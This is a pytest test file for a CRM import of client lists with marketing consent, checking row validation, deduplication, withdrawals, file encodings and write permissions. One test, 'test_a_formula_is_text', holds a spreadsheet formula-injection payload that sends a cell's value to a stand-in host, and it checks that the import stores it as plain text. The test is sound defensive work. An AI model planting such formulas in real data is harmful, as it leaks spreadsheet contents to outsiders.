"""A file of clients and what they agreed to: row by row, nothing lost, nothing twice."""

import json
from datetime import timedelta

import pytest

from domain_api.crm.clients.model import SearchClients
from domain_api.crm.imports.model import FileKind, ImportOutcome
from domain_api.crm.imports.reading import MAX_BYTES, MAX_ROWS
from domain_api.kernel import Channel, Forbidden, InvalidInput, Scope
from tests.domain_api.crm.house import CAMPAIGN, House, order_of
from tests.support.actors import person

HEAD = "name,email,phone,consent_channels,consented_on,consent_source,consent_proof,withdrawn_on"
ANA = "Ana,ana@example.com,,email,2027-01-05,counter,card 17,"
DAY = timedelta(days=1)


def _refusal(crm: House, body: bytes, kind: FileKind = FileKind.CSV) -> InvalidInput:
    with pytest.raises(InvalidInput) as refused:
        crm.imports.load(crm.actor, body, kind)
    assert crm.clients.search(crm.actor, SearchClients()).items == []
    return refused.value


def _outcomes(crm: House, *rows: str) -> list[tuple[int, str]]:
    report = crm.load("\n".join([HEAD, *rows]))
    return [(line.line, line.code or line.outcome.value) for line in report.lines]


def test_a_row_is_a_client_with_their_consent_and_its_proof(crm: House) -> None:
    report = crm.load(f"{HEAD}\n{ANA}\n")
    [line] = report.lines
    assert (report.made, line.line, line.outcome) == (1, 2, ImportOutcome.MADE)
    [entry] = crm.consents.get(crm.actor, line.client_id or "").entries
    assert (entry.channel, entry.source) == (Channel.EMAIL, "counter")
    assert entry.proof == "card 17 (given on 2027-01-05)"
    assert crm.dispatches.dispatch(crm.actor, order_of()).sent == 1


def test_the_same_file_again_changes_nothing(crm: House) -> None:
    text = "\n".join([HEAD, ANA, "Luis,luis@example.com,88886666,,,,,2027-01-06"])
    first = crm.load(text)
    crm.clock.advance(DAY)
    crm.grant(first.lines[1].client_id or "", Channel.SMS)
    again = crm.load(text)
    assert (again.made, again.completed, again.unchanged) == (0, 0, 2)
    assert crm.allowed(first.lines[1].client_id or "") == [Channel.SMS], "agreed again since"


def test_a_known_client_is_completed_and_what_was_known_stays(crm: House) -> None:
    ana = crm.client("Ana Mora", email="ana@example.com")
    assert _outcomes(crm, "Ana,ana@example.com,88887777,,,,,") == [(2, "completed")]
    client = crm.clients.get(crm.actor, ana).client
    assert (client.name, client.phone) == ("Ana Mora", "+50688887777")


def test_a_row_without_a_name_carries_the_address(crm: House) -> None:
    crm.load("email\nana@example.com\n")
    [client] = crm.clients.search(crm.actor, SearchClients()).items
    assert client.name == "ana@example.com"


def test_the_same_contact_twice_in_a_file_is_one_client(crm: House) -> None:
    rows = [ANA, ANA, "Ana,ana@example.com,88887777,,,,,"]
    assert _outcomes(crm, *rows) == [(2, "made"), (3, "unchanged"), (4, "completed")]


@pytest.mark.parametrize(
    ("row", "code"),
    [
        ("Ana,,,,,,,", "contact_missing"),
        ("Ana,ana,,,,,,", "invalid_email"),
        ("Ana,,12,,,,,", "invalid_phone"),
        ("Ana,ana@example.com,,sms,2027-01-05,counter,card,", "consent_without_contact"),
        ("Ana,ana@example.com,,email,2027-01-05,,card,", "consent_without_proof"),
        ("Ana,ana@example.com,,email,2027-01-05,counter,,", "consent_without_proof"),
        ("Ana,ana@example.com,,email,,counter,card,", "consent_without_proof"),
        ("Ana,ana@example.com,,,2027-01-05,counter,card,", "consent_without_channel"),
        ("Ana,ana@example.com,,tiktok,2027-01-05,counter,card,", "channel_not_owned"),
        ("Ana,ana@example.com,,fax,2027-01-05,counter,card,", "invalid_row"),
        ("Ana,ana@example.com,,email,05/01/2027,counter,card,", "invalid_row"),
        ("Ana,ana@example.com,,email,20270105,counter,card,", "invalid_row"),
        ("Ana,ana@example.com,,email,2027-01-12,counter,card,", "invalid_day"),
        ("Ana,ana@example.com,,email,0001-01-01,counter,card,", "invalid_day"),
        ("Ana,ana@example.com,,,,,,9999-12-31", "invalid_day"),
        ("Ana,ana@example.com", "invalid_row"),
        ("A\x00na,ana@example.com,,,,,,", "invalid_row"),
        (f"{'n' * 201},ana@example.com,,,,,,", "invalid_row"),
    ],
)
def test_a_bad_row_is_refused_by_its_line_and_the_others_go_on(
    crm: House, row: str, code: str
) -> None:
    good = "Luis,luis@example.com,,,,,,"
    assert _outcomes(crm, good, row, "", good) == [(2, "made"), (3, code), (5, "unchanged")]
    assert len(crm.clients.search(crm.actor, SearchClients()).items) == 1


@pytest.mark.parametrize("field", ["name", "consent_channels", "birth_year", "consented_on"])
def test_a_bad_row_says_which_field_is_wrong(crm: House, field: str) -> None:
    row = {"email": "ana@example.com", field: {"a": 1}}
    [line] = crm.load(json.dumps(row), FileKind.JSON_LINES).lines
    assert field in (line.reason or "")


def test_a_contact_of_another_client_is_refused_and_nothing_of_the_row_is_kept(
    crm: House,
) -> None:
    ana = crm.client("Ana", email="ana@example.com")
    luis = crm.client("Luis", phone="88886666")
    rows = [
        "Ana,ana@example.com,88886666,sms,2027-01-05,counter,card,",
        "Luis,new@example.com,88886666,,,,,",
        "Luis,other@example.com,88886666,,,,,",
    ]
    assert [code for _, code in _outcomes(crm, *rows)] == [
        "contact_of_another",
        "completed",
        "contact_differs",
    ]
    assert crm.allowed(ana) == crm.allowed(luis) == []


def test_contacts_of_two_who_were_merged_are_one_persons(crm: House) -> None:
    ana, phone = crm.client("Ana"), crm.client("Mora", phone="88887777")
    crm.merge(ana, phone)
    row = "Ana,ana@example.com,88887777,email|sms,2027-01-05,counter,card,"
    assert _outcomes(crm, row) == [(2, "completed")]
    assert crm.allowed(ana) == [Channel.EMAIL, Channel.SMS]


def test_a_grant_that_is_older_than_a_withdrawal_opens_nothing_and_is_kept(crm: House) -> None:
    ana = crm.client("Ana", email="ana@example.com")
    crm.withdraw(ana)
    crm.clock.advance(2 * DAY)
    # It was the tenth, and the eleventh already where days begin first.
    for day in ("2027-01-09", "2027-01-10", "2027-01-11"):
        [line] = crm.load(f"{HEAD}\nAna,ana@example.com,,email,{day},counter,card,").lines
        assert (line.outcome, line.not_opened) == (ImportOutcome.COMPLETED, [Channel.EMAIL])
    assert crm.allowed(ana) == []
    assert len(crm.consents.get(crm.actor, ana).entries) == 4


def test_a_grant_given_after_a_withdrawal_opens_the_channel(crm: House) -> None:
    ana = crm.client("Ana", email="ana@example.com")
    crm.withdraw(ana)
    crm.clock.advance(2 * DAY)
    [line] = crm.load(f"{HEAD}\nAna,ana@example.com,,email,2027-01-12,counter,card,").lines
    assert (line.not_opened, crm.allowed(ana)) == ([], [Channel.EMAIL])


def test_what_was_said_again_on_a_public_page_is_later_than_a_grant_in_between(
    crm: House,
) -> None:
    ana = crm.client("Ana", Channel.EMAIL)
    crm.dispatches.dispatch(crm.actor, order_of())
    message_id = crm.message_to(ana, CAMPAIGN).message_id
    for _ in range(2):
        crm.consents.unsubscribe(message_id, "pressed")
        crm.clock.advance(5 * DAY)
    crm.load(f"{HEAD}\nAna,ana@example.com,,email,2027-01-13,counter,card,")
    assert crm.allowed(ana) == []


def test_a_listed_withdrawal_counts_from_now_and_for_whoever_has_the_contact(crm: House) -> None:
    ana = crm.client("Ana", Channel.EMAIL)
    luis = crm.client("Luis", Channel.SMS)
    phone = crm.clients.get(crm.actor, luis).client.phone
    row = f"Somebody,ana@example.com,{phone},,,,,2026-01-01"
    assert _outcomes(crm, row) == [(2, "completed")]
    assert crm.allowed(ana) == crm.allowed(luis) == []


def test_a_listed_withdrawal_of_a_stranger_is_kept_for_when_they_turn_up(crm: House) -> None:
    rows = ["Ana,ana@example.com,,email,2027-01-05,counter,card,2027-01-02"]
    [line] = crm.load("\n".join([HEAD, *rows])).lines
    assert (line.outcome, line.not_opened) == (ImportOutcome.MADE, [Channel.EMAIL])
    assert crm.allowed(line.client_id or "") == []


@pytest.mark.parametrize(
    ("body", "code"),
    [
        (b"", "empty_file"),
        (b" \n\n", "empty_file"),
        (b"email\n", "empty_file"),
        ("name,email\nJosé,a@b.cr\n".encode("latin-1"), "invalid_encoding"),
        ("email\na@b.cr\n".encode("utf-16"), "invalid_encoding"),
        (b"Ana,ana@example.com\n", "unknown_columns"),
        (b"email,unsubscribed\na@b.cr,yes\n", "unknown_columns"),
        (b"email,email\na@b.cr,a@b.cr\n", "repeated_columns"),
        (b"name\nAna\n", "missing_columns"),
        (b'email\n"a@b.cr\n', "invalid_csv"),
        (b"email\n" + b"a" * 140_000 + b"\n", "invalid_csv"),
        (b"email\n" + b"a@b.cr\n" * (MAX_ROWS + 1), "too_many_rows"),
        (b"e" * (MAX_BYTES + 1), "file_too_large"),
    ],
)
def test_a_file_that_cannot_be_read_is_refused_whole(crm: House, body: bytes, code: str) -> None:
    assert _refusal(crm, body).code == code


@pytest.mark.parametrize("mark", ["", "\ufeff"])
@pytest.mark.parametrize("between", [",", ";", "\t"])
@pytest.mark.parametrize("end", ["\n", "\r\n"])
def test_spreadsheets_files_are_read_as_they_write_them(
    crm: House, mark: str, between: str, end: str
) -> None:
    rows = [
        ["Name", "EMAIL", "interests"],
        ['"Mora\nAna"', "a@b.cr", '"tea|coffee"'],
        ["x", "y", ""],
    ]
    report = crm.load(mark + end.join(between.join(row) for row in rows))
    assert [line.line for line in report.lines] == [2, 4], "a cell may hold a line's end"
    [client] = crm.clients.search(crm.actor, SearchClients()).items
    assert (client.email, client.interests) == ("a@b.cr", ["tea", "coffee"])


def test_a_formula_is_text(crm: House) -> None:
    formula = '=HYPERLINK("http://evil.test?x="&A1)'
    crm.load(json.dumps({"name": formula, "email": "a@b.cr"}), FileKind.JSON_LINES)
    [client] = crm.clients.search(crm.actor, SearchClients()).items
    assert client.name == formula


@pytest.mark.parametrize(
    "line", ["[1]", "{", '"a"', "null", "[" * 5000, '{"email": "a@b.cr", "x": 1}']
)
def test_a_line_that_is_no_row_is_refused_by_itself(crm: House, line: str) -> None:
    good = json.dumps({"email": "ana@example.com", "birth_year": 1990})
    report = crm.load(f"{line}\n{good}\n", FileKind.JSON_LINES)
    assert [(one.line, one.code) for one in report.lines] == [(1, "invalid_row"), (2, None)]


def test_an_import_needs_the_right_to_write(crm: House) -> None:
    reader = person(organization=crm.organization_id, scopes=frozenset({Scope.CRM_READ}))
    with pytest.raises(Forbidden):
        crm.imports.load(reader, b"email\na@b.cr\n", FileKind.CSV)


def test_another_organizations_client_of_the_same_address_is_not_touched(crm: House) -> None:
    neighbour = crm.neighbour()
    theirs = neighbour.client("Ana", Channel.EMAIL)
    crm.load(f"{HEAD}\nAna,ana@example.com,,,,,,2027-01-05\n")
    assert neighbour.allowed(theirs) == [Channel.EMAIL]
